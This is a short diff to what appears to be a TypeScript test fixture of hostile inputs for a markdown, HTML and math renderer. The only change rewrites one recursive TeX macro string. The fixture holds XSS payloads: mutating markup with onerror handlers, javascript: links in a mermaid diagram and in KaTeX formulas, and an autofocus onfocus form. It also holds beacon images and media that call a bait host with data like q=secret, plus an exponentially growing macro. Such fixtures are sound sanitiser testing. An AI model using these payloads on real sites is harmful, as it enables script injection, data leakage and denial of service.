@@ -23,7 +23,7 @@ export function hostileTexts(bait: string): Record<string, string> {
     'mutating markup': `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
     diagram: `${TICKS}mermaid\ngraph TD; A["<img src=x onerror='${RUN}'>"] --> B; click A "javascript:${RUN}"\n${TICKS}`,
     formula: `$$\\href{javascript:${RUN}}{x} \\htmlData{a=b}{y} \\includegraphics{${bait}/math.png} \\url{javascript:alert(1)}$$`,
-    'formula that grows': `$$${'\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}'}\\a$$`,
+    'formula that grows': '$$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}\\a$$',
     style: `<style>* { display: none !important } body { background: url(${bait}/style) }</style><div style="position:fixed;inset:0;z-index:9999;background:url(${bait}/inline)">over</div>`,
     form: `<form action="${bait}/form"><input autofocus onfocus="${RUN}" name=a><button>Send</button></form>`,
     'pictures that tell': `![a](${bait}/image?q=secret) <img src="${bait}/img"> <img srcset="${bait}/set 1x"> <picture><source srcset="${bait}/source"></picture> <video src="${bait}/video" poster="${bait}/poster" autoplay></video> <audio src="${bait}/audio" autoplay></audio>`,
